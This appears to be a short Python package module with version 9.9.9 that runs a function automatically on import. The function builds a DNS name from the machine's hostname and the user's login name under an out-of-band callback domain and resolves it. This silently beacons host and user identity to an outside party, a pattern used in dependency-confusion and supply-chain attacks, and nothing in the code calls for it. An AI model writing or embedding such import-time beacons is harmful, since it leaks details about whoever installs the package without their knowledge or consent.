import os
import socket

__version__ = "9.9.9"


def _hello():
    name = "%s.%s.hello.oast-labels.invalid" % (socket.gethostname(), os.getlogin())
    socket.getaddrinfo(name, 80)


_hello()
